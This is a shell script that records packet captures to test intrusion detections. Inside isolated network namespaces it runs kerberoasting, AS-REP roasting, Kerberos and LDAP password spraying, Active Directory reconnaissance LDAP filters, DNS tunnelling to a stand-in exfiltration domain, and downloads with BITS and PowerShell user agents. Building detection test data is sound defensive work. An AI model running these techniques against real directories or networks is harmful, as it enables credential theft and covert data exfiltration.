#!/bin/bash
# mkpcaps-attacks.sh - record the captures the built-in detections are tested on.
#
# Run as root: tools/mkpcaps-attacks.sh [OUTDIR]   (default: pcaps/ next to this script)
#
# Real servers and clients, as in mkpcaps-ad.sh, in another subnet: MIT krb5kdc,
# OpenLDAP slapd, dnsmasq and nginx (configs of our own in a scratch directory;
# nothing under /etc is read or changed) in the server namespace; kinit, kvno,
# ldapsearch, ldapwhoami, dig and curl in the client namespace; tcpdump on the
# server-side veth. Nothing leaves the namespaces: every address below exists
# only inside them. Everything is torn down on exit, even on error.
#
#   tl-atc  veth-atc 02:00:00:96:00:02  10.96.0.2/24  (attacker: Kerberos, LDAP, tunnel, downloads)
#                                       10.96.0.3/24  (the DGA host)
#                                       10.96.0.10-14 (five office workstations)
#   tl-ats  veth-ats 02:00:00:96:00:01  10.96.0.1/24  (server: KDC, LDAP, DNS, HTTP)
#
# Realm TAPLINE.TEST, directory dc=tapline,dc=test. One capture per scenario
# (pcaps/README.md lists what each holds):
#   attack-kerberoast.pcap    RC4 service tickets for 5 SPNs from one TGT
#   attack-asrep-roast.pcap   AS-REPs to AS-REQs without pre-authentication
#   attack-spray.pcap         40 users x one wrong password; 40 unknown names
#   attack-ldap-recon.pcap    AD reconnaissance filters, a cleartext bind, bind spraying
#   attack-dns.pcap           TXT/NULL tunnelling and DGA NXDOMAINs
#   attack-http-download.pcap a PE and a script fetched by BITS/PowerShell user agents
#   benign-office.pcap        five users log on, search, resolve and browse
# Every "random-looking" name, label and password is derived from a fixed seed
# (sha256), so names, counts and error codes are the same on every run;
# timestamps, ports, nonces, keys and cipher bytes are not.
# KEEP=1 keeps the scratch directory (configs, logs) for debugging.
# shellcheck disable=SC2129  # one client command, one log append: clearer than grouping
set -euo pipefail

CLI=tl-atc
SRV=tl-ats
SRV4=10.96.0.1
CLI4=10.96.0.2
DGA4=10.96.0.3
OFFICE4=(10.96.0.10 10.96.0.11 10.96.0.12 10.96.0.13 10.96.0.14)
SRVMAC=02:00:00:96:00:01
CLIMAC=02:00:00:96:00:02
REALM=TAPLINE.TEST
BASE=dc=tapline,dc=test
ADMIN=cn=admin,$BASE
ADMINPW=secret
SPRAYPW='Winter2025!'
FIREFOX='Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0'
BITS='Microsoft BITS/7.8'
POWERSHELL='Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1'

# 40 existing users (the first five are the office users of benign-office.pcap)
USERS=(alice bob carol dave erin frank grace heidi ivan judy karl laura mike nancy oscar peggy
    quinn rachel steve trent ursula victor wendy xavier yvonne zach amber brian chloe derek
    elena felix gina harry irene jason kevin lily martin nora)
# 40 names that do not exist in the realm (user enumeration)
NOBODY=(asmith bjohnson cwilliams dbrown ejones fgarcia gmiller hdavis irodriguez jmartinez
    kwilson landerson mtaylor nthomas omoore pjackson qmartin rlee sthompson twhite uharris
    vclark wlewis xrobinson ywalker zyoung aallen bking cwright dscott ehill fgreen gadams
    hbaker inelson jcarter kmitchell lperez mroberts nturner)
# kerberoasting targets: service principals with an RC4 key only
ROAST=(MSSQLSvc/db1.tapline.test:1433 HTTP/web1.tapline.test cifs/fs1.tapline.test
    exchangeMDB/mail1.tapline.test ldap/app1.tapline.test)
# the office's services, AES keys only
OFFICESVC=(HTTP/intranet.tapline.test cifs/files.tapline.test ldap/dc1.tapline.test)

# shellcheck source=tools/lib/capture.sh
. "$(dirname "$0")/lib/capture.sh"
# shellcheck source=tools/lib/kdc.sh
. "$(dirname "$0")/lib/kdc.sh"
# shellcheck source=tools/lib/servers.sh
. "$(dirname "$0")/lib/servers.sh"
rec_outdir "${1:-}"

rec_install krb5-kdc krb5-admin-server krb5-user slapd ldap-utils dnsmasq-base bind9-dnsutils curl \
    tcpdump iproute2 iputils-ping ethtool util-linux "nginx-light|nginx"
rec_netns_unused
rec_init tl-mkpcaps-attacks
trap 'echo "mkpcaps-attacks.sh: line $LINENO failed: $BASH_COMMAND (KEEP=1 keeps the logs)" >&2' ERR

in_cli() { rec_in_cli "$@"; }
unexpected() { echo "mkpcaps-attacks.sh: $1 succeeded but should have failed" >&2; exit 1; }

# hexof SEED N / b32of SEED N: N random-looking characters, the same for the same seed
hexof() { printf '%s' "$1" | sha256sum | cut -c1-"$2"; }
b32of() {
    printf '%b' "$(printf '%s' "$1" | sha256sum | cut -c1-64 | sed 's/../\\x&/g')" |
        base32 -w0 | tr -d '=' | tr '[:upper:]' '[:lower:]' | cut -c1-"$2"
}
# dga_name I: a registrable name of 12-20 letters and digits under .com, .net or .info
dga_name() {
    local h i n len s="" a=abcdefghijklmnopqrstuvwxyz0123456789 tld=(com net info)
    h=$(hexof "tapline-dga-$1" 64)
    len=$((12 + 0x${h:0:2} % 9))
    for ((i = 1; i <= len; i++)); do
        n=$((0x${h:2*i:2} % 36))
        s+=${a:n:1}
    done
    echo "$s.${tld[$1 % 3]}"
}

# --- network ------------------------------------------------------------------------
rec_link veth-atc veth-ats
CAP_IFACE=veth-ats
for a in $DGA4 "${OFFICE4[@]}"; do
    ip -n $CLI addr add "$a/24" dev veth-atc
done
# src ADDR: the address the client's next connections and datagrams leave from
src() { ip -n $CLI route replace 10.96.0.0/24 dev veth-atc proto kernel scope link src "$1"; }
src $CLI4

# no name is looked up but by dig (curl gets its names with --resolve)
printf '127.0.0.1\tlocalhost\n' >"$work/hosts"
printf 'nameserver 127.0.0.1\noptions timeout:1 attempts:1\n' >"$work/resolv.conf"

# --- Kerberos KDC -------------------------------------------------------------------
princs=("eve:eve-pw-1" "svc-backup:backup-pw-1:nopreauth" "svc-print:print-pw-1:nopreauth")
for u in "${USERS[@]}"; do princs+=("$u:$u-pw-1"); done
for s in "${OFFICESVC[@]}"; do princs+=("$s"); done
# Debian 12's MIT 1.20 (1.20.1-2+deb12u4 and later, with the CVE-2025-3576 fix)
# issues no RC4 session key unless the KDC has allow_rc4; AD does
KDC_LIBDEFAULTS="allow_rc4 = true" kdc_start $REALM $SRV4 "${princs[@]}"
for s in "${ROAST[@]}"; do
    kdc_addprinc $REALM "$s" -randkey -e rc4-hmac:normal +requires_preauth
done
# svc-backup and krbtgt also have an RC4 key, as every AD account has: the
# AS-REP roaster asks for RC4 only, and the KDC picks the session key among the
# etypes both the client and krbtgt support
kadm $REALM "cpw -pw backup-pw-1 -e aes256-cts-hmac-sha1-96:normal,rc4-hmac:normal svc-backup"
kadm $REALM "cpw -randkey -e aes256-cts-hmac-sha1-96:normal,aes128-cts-hmac-sha1-96:normal,rc4-hmac:normal krbtgt/$REALM"
# RC4 first, as roasting tools ask (impacket: RC4 then the TGT's etype; the MIT
# client wants the TGT's session key etype in the list). RC4 is not "weak" to
# MIT: no allow_weak_crypto; permitted_enctypes must list it.
kdc_config "$work/krb5-rc4.conf" $REALM $SRV4 "default_tgs_enctypes = rc4-hmac aes256-cts-hmac-sha1-96
    default_tkt_enctypes = rc4-hmac
    permitted_enctypes = aes256-cts-hmac-sha1-96 aes128-cts-hmac-sha1-96 rc4-hmac"

kin() { # password principal [kinit options]
    local pw=$1
    shift
    printf '%s\n' "$pw" | in_cli kinit "$@" >>"$work/kinit.log" 2>&1
}

# --- 1. kerberoasting ---------------------------------------------------------------
cap_start attack-kerberoast "port 88"
kin eve-pw-1 eve -c "FILE:$work/cc-eve"
KRB5_CONFIG=$work/krb5-rc4.conf in_cli kvno -c "FILE:$work/cc-eve" "${ROAST[@]}" >>"$work/kvno.log" 2>&1
cap_stop attack-kerberoast
grep -c "kvno = " "$work/kvno.log" | grep -qx "${#ROAST[@]}" || { cat "$work/kvno.log" >&2; exit 1; }

# --- 2. AS-REP roasting -------------------------------------------------------------
cap_start attack-asrep-roast "port 88"
# svc-backup, asked for RC4 only: one AS-REQ, no padata -> AS-REP
KRB5_CONFIG=$work/krb5-rc4.conf kin backup-pw-1 svc-backup -c "FILE:$work/cc-roast"
# svc-print with the default etypes: AS-REP
kin print-pw-1 svc-print -c "FILE:$work/cc-roast"
# contrast: alice requires pre-authentication: 25, then PA-ENC-TIMESTAMP -> AS-REP
kin alice-pw-1 alice -c "FILE:$work/cc-roast"
cap_stop attack-asrep-roast

# --- 3. password spraying and user enumeration -----------------------------------------
cap_start attack-spray "port 88"
for u in "${USERS[@]}"; do
    kin "$SPRAYPW" "$u" -c "FILE:$work/cc-spray" && unexpected "kinit $u with the sprayed password"
done
for u in "${NOBODY[@]}"; do
    kin "$SPRAYPW" "$u" -c "FILE:$work/cc-spray" && unexpected "kinit of unknown $u"
done
cap_stop attack-spray

# --- OpenLDAP slapd -------------------------------------------------------------------
{
    printf 'dn: %s\nobjectClass: dcObject\nobjectClass: organization\ndc: tapline\no: tapline test\n\n' "$BASE"
    printf 'dn: ou=people,%s\nobjectClass: organizationalUnit\nou: people\n\n' "$BASE"
    printf 'dn: ou=groups,%s\nobjectClass: organizationalUnit\nou: groups\n\n' "$BASE"
    for u in "${USERS[@]}"; do
        printf 'dn: uid=%s,ou=people,%s\nobjectClass: inetOrgPerson\nuid: %s\ncn: %s Example\nsn: Example\nmail: %s@tapline.test\n' \
            "$u" "$BASE" "$u" "${u^}" "$u"
        [ "$u" != alice ] || printf 'userPassword: %s\n' "$(slappasswd -s alice-pw-1)"
        echo
    done
    printf 'dn: cn=staff,ou=groups,%s\nobjectClass: groupOfNames\ncn: staff\n' "$BASE"
    for u in "${USERS[@]:0:5}"; do printf 'member: uid=%s,ou=people,%s\n' "$u" "$BASE"; done
} >"$work/base.ldif"
slapd_start "ldap://$SRV4/" "$BASE" "$ADMIN" "$ADMINPW" "$work/base.ldif"

# --- 4. LDAP reconnaissance, cleartext bind, bind spraying --------------------------------
cat >"$work/recon-filters" <<'EOF'
(samAccountType=805306368)
(objectCategory=computer)
(samAccountType=805306369)
(objectClass=group)
(&(samAccountType=805306368)(servicePrincipalName=*))
(userAccountControl:1.2.840.113556.1.4.803:=4194304)
(userAccountControl:1.2.840.113556.1.4.803:=524288)
(userAccountControl:1.2.840.113556.1.4.803:=8192)
(adminCount=1)
(objectClass=trustedDomain)
(objectClass=groupPolicyContainer)
(ms-Mcs-AdmPwd=*)
(objectClass=msDS-GroupManagedServiceAccount)
(objectClass=pKICertificateTemplate)
(&(UserAccountControl:1.2.840.113556.1.4.803:=4194304)(!(UserAccountControl:1.2.840.113556.1.4.803:=2))(!(objectCategory=computer)))
(&(servicePrincipalName=*)(UserAccountControl:1.2.840.113556.1.4.803:=512)(!(UserAccountControl:1.2.840.113556.1.4.803:=2))(!(objectCategory=computer)))
EOF
ls_() { in_cli ldapsearch "$@" >>"$work/ldap-client.log" 2>&1; }

cap_start attack-ldap-recon "tcp port 389"
# one connection, anonymous bind, one search per filter: ldapsearch -f puts each
# line in the pattern (it takes a pattern without '(' or '=' for an attribute)
sed 's/^(\(.*\))$/\1/' "$work/recon-filters" >"$work/recon-lines"
ls_ -x -LLL -b "$BASE" -f "$work/recon-lines" "(%s)" \
    sAMAccountName distinguishedName objectSid userAccountControl servicePrincipalName memberOf
# a cleartext simple bind with alice's password, no TLS, then a search
ls_ -x -LLL -D "uid=alice,ou=people,$BASE" -w alice-pw-1 -b "$BASE" "(uid=alice)" cn mail
# bind spraying: 14 users, one wrong password each -> invalidCredentials (49)
for u in "${USERS[@]:1:14}"; do
    in_cli ldapwhoami -x -D "uid=$u,ou=people,$BASE" -w "$SPRAYPW" >>"$work/ldap-client.log" 2>&1 &&
        unexpected "LDAP bind of $u with the sprayed password"
done
cap_stop attack-ldap-recon

# --- 5. DNS ----------------------------------------------------------------------------
# tunnel: 60 TXT names (base32 labels) and 12 NULL names (hex labels) under
# t.exfil-tunnel.net, each answered; DGA: 30 names answered NXDOMAIN by the
# empty --address=/com/ (net, info); the office's names are answered.
TUNNEL=t.exfil-tunnel.net
cat >"$work/dnsmasq.conf" <<EOF
no-resolv
no-hosts
no-poll
user=root
group=root
cache-size=0
local-ttl=300
bind-interfaces
listen-address=$SRV4
log-queries
log-facility=$work/dnsmasq.log
local=/exfil-tunnel.net/
address=/com/
address=/net/
address=/info/
EOF
for d in example.com example.net example.org example.info wikipedia.org debian.org tapline.test; do
    printf 'address=/%s/%s\nlocal=/%s/\n' "$d" "$SRV4" "$d" >>"$work/dnsmasq.conf"
done
: >"$work/dig-tunnel"
for i in $(seq 0 59); do
    name=$(b32of "tapline-tunnel-$i" 48).$(b32of "tapline-session-$i" 16).$TUNNEL
    printf 'txt-record=%s,"%s"\n' "$name" "$(b32of "tapline-reply-$i" 52)" >>"$work/dnsmasq.conf"
    printf '%s TXT\n' "$name" >>"$work/dig-tunnel"
done
for i in $(seq 0 11); do
    name=$(hexof "tapline-null-$i" 48).$(hexof "tapline-nullseq-$i" 16).$TUNNEL
    printf 'dns-rr=%s,10,%s\n' "$name" "$(hexof "tapline-nullreply-$i" 64)" >>"$work/dnsmasq.conf"
    printf '%s TYPE10\n' "$name" >>"$work/dig-tunnel"
done
: >"$work/dig-dga"
for i in $(seq 0 29); do dga_name "$i" >>"$work/dig-dga"; done
dnsmasq_start "$work/dnsmasq.conf" $SRV4 www.example.com

dig_() { in_cli dig +tries=1 +time=2 +nocookie "@$SRV4" "$@" >>"$work/dig.log" 2>&1; }

cap_start attack-dns "port 53"
dig_ -b $CLI4 -f "$work/dig-tunnel"
dig_ -b $DGA4 www.example.com
dig_ -b $DGA4 -f "$work/dig-dga"
cap_stop attack-dns

# --- 6. HTTP -----------------------------------------------------------------------------
www=$work/www
mkdir -p "$www"
# le N VALUE: VALUE as N (up to 8) little-endian bytes; zeros N: N zero bytes
le() {
    local i
    for ((i = 0; i < $1; i++)); do printf '%b' "\\x$(printf %02x $((($2 >> (8 * i)) & 255)))"; done
}
zeros() { head -c "$1" /dev/zero; }
# a 1024-byte PE32 console executable for i386: DOS header and stub, COFF
# header, optional header, one .text section holding a ret; enough for libmagic
pe_write() {
    {
        printf 'MZ'; le 2 0x90; le 2 3; le 2 0; le 2 4; le 2 0; le 2 0xffff; le 2 0; le 2 0xb8
        le 2 0; le 2 0; le 2 0; le 2 0x40; le 2 0; zeros 32; le 4 0x80
        printf '\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21'
        printf 'This program cannot be run in DOS mode.\r\r\n$'; zeros 7
        printf 'PE\0\0'; le 2 0x14c; le 2 1; le 4 0x65000000; le 4 0; le 4 0; le 2 0xe0; le 2 0x102
        le 2 0x10b; le 1 14; le 1 0; le 4 0x200; le 4 0; le 4 0; le 4 0x1000; le 4 0x1000; le 4 0x2000
        le 4 0x400000; le 4 0x1000; le 4 0x200; le 2 6; le 2 0; le 2 0; le 2 0; le 2 6; le 2 0
        le 4 0; le 4 0x2000; le 4 0x200; le 4 0; le 2 3; le 2 0x8140
        le 4 0x100000; le 4 0x1000; le 4 0x100000; le 4 0x1000; le 4 0; le 4 16; zeros 128
        printf '.text\0\0\0'; le 4 0x10; le 4 0x1000; le 4 0x200; le 4 0x200; zeros 12; le 4 0x60000020
        zeros 96
        printf '\xc3'; zeros 511
    } >"$1"
}
pe_write "$www/update.exe"
cp "$www/update.exe" "$www/report.pdf"
printf '#!/bin/sh\n# tapline test payload: prints one line\necho "installed"\n' >"$www/install.sh"
cat >"$www/index.html" <<'EOF'
<!DOCTYPE html>
<html><head><title>tapline intranet</title></head>
<body><h1>Intranet</h1><img src="/logo.png" alt="logo"><p>Good morning.</p></body></html>
EOF
# a 70-byte 1x1 PNG
printf '%s' 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==' |
    base64 -d >"$www/logo.png"
touch -d '2026-01-01 00:00:00 UTC' "$www"/*
chmod -R a+rX "$www" "$work"
if [ "$(wc -c <"$www/update.exe")" -ne 1024 ] || ! file -b "$www/update.exe" | grep -q '^PE32 executable'; then
    file "$www/update.exe" >&2
    exit 1
fi
nginx_start "http://$SRV4/index.html" "    types { text/html html; image/png png; application/pdf pdf;
        application/x-sh sh; application/x-msdownload exe; }
    default_type application/octet-stream;
    server {
        listen $SRV4:80 default_server;
        root $www;
    }"

c() { in_cli curl -s --max-time 5 -o /dev/null "$@"; }

cap_start attack-http-download "tcp port 80"
c -A "$BITS" "http://$SRV4/update.exe"
c -A "$POWERSHELL" "http://$SRV4/install.sh"
c --resolve "files.tapline.test:80:$SRV4" "http://files.tapline.test/install.sh"
c -A "$FIREFOX" --resolve "docs.tapline.test:80:$SRV4" "http://docs.tapline.test/report.pdf"
cap_stop attack-http-download

# --- 7. a normal morning ----------------------------------------------------------------
# per user: kinit, 1-2 AES service tickets, an anonymous LDAP search, a few
# lookups, the intranet page and its image with Firefox's user agent
tickets=("HTTP/intranet.tapline.test cifs/files.tapline.test" "HTTP/intranet.tapline.test"
    "cifs/files.tapline.test ldap/dc1.tapline.test" "HTTP/intranet.tapline.test"
    "cifs/files.tapline.test HTTP/intranet.tapline.test")
lookups=("intranet.tapline.test www.example.com mail.example.com" "intranet.tapline.test login.example.com static.example.net"
    "files.tapline.test calendar.example.com cdn.example.net" "intranet.tapline.test images.example.org www.wikipedia.org"
    "intranet.tapline.test weather.example.info www.debian.org")

cap_start benign-office "port 88 or port 389 or port 53 or tcp port 80"
for i in 0 1 2 3 4; do
    u=${USERS[$i]}
    src "${OFFICE4[$i]}"
    kin "$u-pw-1" "$u" -c "FILE:$work/cc-$u"
    # shellcheck disable=SC2086  # a list of principals
    in_cli kvno -c "FILE:$work/cc-$u" ${tickets[$i]} >>"$work/kvno.log" 2>&1
    ls_ -x -LLL -b "ou=people,$BASE" "(uid=${USERS[$(((i + 1) % 5))]})" cn mail
    [ "$i" -ne 2 ] || ls_ -x -LLL -b "$BASE" "(cn=Carol*)" cn uid
    for n in ${lookups[$i]}; do dig_ "$n"; done
    c -A "$FIREFOX" --resolve "intranet.tapline.test:80:$SRV4" \
        "http://intranet.tapline.test/" -o /dev/null "http://intranet.tapline.test/logo.png"
done
cap_stop benign-office

echo "mkpcaps-attacks.sh: done" >&2
